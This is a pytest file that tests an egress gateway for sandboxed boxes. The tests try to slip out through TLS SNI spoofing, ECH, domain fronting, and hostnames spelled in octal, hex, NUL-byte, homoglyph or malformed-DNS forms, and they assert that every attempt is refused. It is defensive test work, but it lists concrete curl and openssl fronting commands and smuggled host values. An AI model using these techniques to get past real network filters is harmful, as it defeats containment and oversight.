"""Attacks A8 and A9 of the research on the way out: names that hide, lie, or are read in two ways."""

from __future__ import annotations

import asyncio
import shlex

import pytest

from corral.actions import Kind
from tests.contain.conftest import MakeBox
from tests.contain.gateway_attacks import (
    EVIL,
    EVIL6,
    NOTHING_ALLOWS,
    WEB,
    attack,
    nothing_arrived,
    refused,
    requests_refused,
    statuses,
)
from tests.contain.gateway_boxes import policy_of, reasons, refusals, shell
from tests.internet.world import Internet
from tests.unit.hellos import hello

WEB_PLACES = ("203.0.113.80", "2001:db8:2::80")

# ---- A8: what the hello says ----

HELLO = r"""
answers = {}
for what, data in ARGS[1].items():
    answers[what] = say(ARGS[0], 443, bytes.fromhex(data)).encode("latin-1").hex()
tell(answers)
"""
ACCESS_DENIED = bytes((21, 3, 3, 0, 2, 2, 49)).hex()


async def test_hellos_that_hide_or_lie(make_box: MakeBox, internet: Internet) -> None:
    """A8: no name, another, several, an address for a name, bytes in it, and ECH, old and new, in many pieces."""
    two = b"\0\0" + b"\0\x18" + b"\0\x16" + b"\0\0\x08web.test" + b"\0\0\x08api.test"
    hellos = {
        "other": hello(name=b"evil.example"),
        "address": hello(name=EVIL.encode()),
        "address-6": hello(name=EVIL6.encode()),
        "nul": hello(name=b"evil.example\0.web.test"),
        "nul-after": hello(name=b"web.test\0.evil.example"),
        "dot": hello(name=b"web.test."),
        "below": hello(name=b"x.web.test"),
        "empty": hello(name=b""),
        "cyrillic": hello(name="w\u0435b.test".encode()),
        "ech": hello((0xFE0D, b"\0\0\1\0\1\x20" + bytes(60)), name=b"web.test"),
        "esni": hello((0xFFCE, bytes(64)), name=b"web.test"),
        "pieces": hello(name=b"evil.example", fragment=5),
        "twice": hello((0, two[4:]), name=b"web.test"),
    }
    box = await make_box(policy=policy_of("allow: [web.test:443, api.test:443]"))
    internet.clear()
    heard = await attack(box, HELLO, "web.test", {what: data.hex() for what, data in hellos.items()})
    assert set(heard.values()) == {ACCESS_DENIED}, heard
    nothing_arrived(internet)
    told = reasons(box)
    assert "hides the name of its server (ECH)" in told
    assert "names evil.example, not web.test" in told
    assert len([d for d in refusals(box, Kind.NET_CONNECT) if d.rule == "gateway.tls"]) == len(hellos)


async def test_fronting_with_real_clients(make_box: MakeBox, internet: Internet) -> None:
    box = await make_box(policy=policy_of("allow: [web.test:443, api.test:443]"))
    internet.clear()
    commands = {
        "curl": "curl -sS -k -m 8 --connect-to evil.example:443:web.test:443 https://evil.example/",
        "allowed": "curl -sS -k -m 8 --connect-to api.test:443:web.test:443 https://api.test/",
        "address": f"curl -sS -k -m 8 --connect-to {EVIL}:443:web.test:443 https://{EVIL}/",
        "openssl": "openssl s_client -connect web.test:443 -servername evil.example </dev/null",
        "no-name": "openssl s_client -connect web.test:443 -noservername </dev/null",
        "old": "openssl s_client -connect web.test:443 -tls1_2 -servername evil.example </dev/null",
    }
    for name, command in commands.items():
        result = await shell(box, command)
        assert result.exit_code != 0, (name, result)
        assert "access denied" in (result.stdout + result.stderr).decode().lower(), (name, result)
    nothing_arrived(internet)
    assert reasons(box).count("gateway.tls") == len(commands)


async def test_a_host_within_tls_that_is_not_the_name(
    make_box: MakeBox, internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A8: fronting below the TLS, where it is looked at."""
    monkeypatch.setenv("SSL_CERT_FILE", str(internet.ca_file))
    box = await make_box(policy=policy_of("allow: [{name: web.test, port: 443, intercept: true}]"))
    internet.clear()
    for host in ("evil.example", "api.test", EVIL, "web.test:8443", "web.test@evil.example", "web.test, evil.example"):
        heard = (await shell(box, f"curl -sS -m 8 -i -H {shlex.quote('Host: ' + host)} https://web.test/")).text
        assert [code // 100 for code in statuses(heard)] == [4], (host, heard)
        assert "x-corral-reason:" in heard
    nothing_arrived(internet, names=["web.test"])
    assert {rule for _, rule, _ in requests_refused(box)} == {"gateway.http"}
    # The walls have a door: the same client with the right name.
    assert "hello from web.test" in (await shell(box, "curl -sS -m 8 https://web.test/")).text


async def test_http2_within_tls_that_is_looked_at(
    make_box: MakeBox, internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A8, A11: who speaks HTTP/2 without having agreed on it is not understood, and nobody else is asked to."""
    monkeypatch.setenv("SSL_CERT_FILE", str(internet.ca_file))
    box = await make_box(policy=policy_of("allow: [{name: web.test, port: 443, intercept: true}]"))
    internet.clear()
    heard = await shell(box, "curl -sS -m 8 --http2-prior-knowledge -H 'Host: evil.example' https://web.test/")
    assert "hello from" not in heard.text, heard
    code = r"""
context = ssl.create_default_context()
context.set_alpn_protocols(["h2", "http/1.1"])
with context.wrap_socket(socket.create_connection(("web.test", 443), timeout=8), server_hostname="web.test") as s:
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
    tell([s.selected_alpn_protocol(), heard(s)])
"""
    chosen, answer = await attack(box, code)
    assert chosen == "http/1.1" and set(statuses(answer)) <= {400, 403, 505}, answer
    assert all(not arrival.plain for arrival in nothing_arrived(internet, names=["web.test"], addresses=WEB_PLACES))


# ---- A9: names that two programs read differently ----


async def test_names_in_other_spellings(make_box: MakeBox, internet: Internet) -> None:
    """A9 by curl: user@, numbers in every base, zones, dots, letters that look like others. Each stays where it is."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    urls = [
        "http://web.test@evil.example/",
        "http://web.test:80@evil.example/",
        "http://web.test%00.evil.example/",
        "http://web.test%2eevil.example/",
        "http://web.test.evil.example/",
        "http://evil.example./",
        "http://EVIL.example/",
        "http://evil.example%2f.web.test/",
        "http://xn--wb-hlc.test/",
        "http://w\u0435b.test/",  # a letter of Cyrillic
        "http://web。test.evil.example/",
        "http://0313.0.0161.0102/",
        "http://0xcb.0.0x71.0x42/",
        "http://3405803842/",
        "http://0xcb007142/",
        "http://203.0.28994/",
        "http://203.113.66/",
        "http://[::ffff:cb00:7142]/",
        "http://[2001:db8:2::66%25lo]/",
        "http://[2001:0db8:0002:0000:0000:0000:0000:0066]/",
        f"http://{EVIL}.:80/",
        "http://①.evil.example/",
    ]

    async def fetch(url: str) -> None:
        result = await box.exec(["curl", "-sS", "-g", "-m", "8", "-i", url], timeout=20)
        assert result.exit_code != 0 or statuses(result.text) in ([403], [400]), (url, result)

    await asyncio.gather(*map(fetch, urls))
    nothing_arrived(internet)
    refused(box, Kind.NET_RESOLVE, "evil.example", NOTHING_ALLOWS)
    refused(box, Kind.NET_CONNECT, f"{EVIL}:80", NOTHING_ALLOWS)
    refused(box, Kind.NET_CONNECT, f"[{EVIL6}]:80", NOTHING_ALLOWS)


async def test_the_same_name_in_other_spellings_is_the_same_name(make_box: MakeBox, internet: Internet) -> None:
    """Case and the last dot change nothing: an allowed name is reached as itself, and by that name only."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    for url in ("http://WEB.test/", "http://web.TEST./", "http://web.test:80/"):
        assert "hello from web.test\n" in (await shell(box, f"curl -sS -m 8 {url}")).text
    found = nothing_arrived(internet, names=["web.test"], addresses=["203.0.113.80", "2001:db8:2::80"])
    assert {request.header("host") for arrival in found for request in arrival.requests} == {"web.test"}


async def test_bytes_in_names(make_box: MakeBox, internet: Internet) -> None:
    """A9 by bytes: labels with NUL, dots, slashes, pointers; the resolver and Host must not be cut short."""
    box = await make_box(policy=policy_of("allow: ['*.wild.test:80', web.test:80]"))
    internet.clear()
    code = r"""
labels = [[b"evil", b"example\0", b"wild", b"test"], [b"evil.example\0", b"wild", b"test"], [b"a.wild.test\0", b"evil",
    b"example"], [b"a\\.wild", b"test"], [b"a/b", b"wild", b"test"], [b"\xd0\xb5", b"wild", b"test"], [b"a b", b"wild",
    b"test"], [b"*", b"wild", b"test"], [b"web\0", b"test"], [b"xn--\0", b"wild", b"test"], [b"a" * 63] * 3 + [b"wild",
    b"test"], [b"web", b"test\n"]]
names = [b"".join(bytes((len(label),)) + label for label in each) + b"\0" for each in labels]
names += [b"\x03web\x04test", b"\x40web\x04test\0", b"\xc0\x0c", b"\x03web\xc0\x0c", b"\xc0\xff",
    b"\x03web\x04test\0\0"]
answers = []
for name in names:
    data = struct.pack("!HHHHHH", 9, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.connect(("198.18.0.53", 53)); s.send(data)
        try:
            found = s.recv(4096)
            answers.append([found[3] & 15, int.from_bytes(found[6:8], "big")])
        except OSError as error:
            answers.append(failure(error))
tell(answers)
"""
    heard = await attack(box, code)
    for answer in heard:
        assert answer == "TimeoutError" or (answer[0] and not answer[1]), heard
    hosts = [
        b"web.test\0.evil.example",
        b"evil.example\0web.test",
        b"web.test\x0bevil.example",
        b"web.test#evil.example",
        b"web.test evil.example",
        b"web.test/evil.example",
        b"user@web.test",
        b"web.test:80:80",
        b"web.test:0080",
        b"web%2etest",
        b"",
        b"[web.test]",
        b"0xcb.0.0x71.0x42",
        b"web.test,evil.example",
        b"web.test\x80",
    ]
    code = """
tell([say("web.test", 80, b"GET /echo HTTP/1.1\\r\\nHost: " + bytes.fromhex(host) + b"\\r\\n\\r\\n") for host in ARGS])
"""
    for host, answer in zip(hosts, await attack(box, code, *(host.hex() for host in hosts)), strict=True):
        found = statuses(answer)
        assert found in ([400], [403], [421]) or host == b"web.test:0080", (host, answer)
    arrived = nothing_arrived(internet, names=["web.test"], addresses=["203.0.113.80", "2001:db8:2::80"])
    assert {request.header("host") for arrival in arrived for request in arrival.requests} <= {"web.test"}
